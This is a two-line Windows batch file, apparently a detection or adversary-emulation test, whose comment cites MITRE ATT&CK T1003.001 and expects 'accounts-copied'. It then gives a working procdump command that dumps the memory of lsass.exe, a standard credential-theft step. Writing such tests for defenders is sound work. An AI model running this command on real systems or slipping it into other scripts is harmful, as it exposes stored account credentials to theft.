@rem expect: accounts-copied | source: MITRE ATT&CK T1003.001
procdump -accepteula -ma lsass.exe %TEMP%\l.dmp
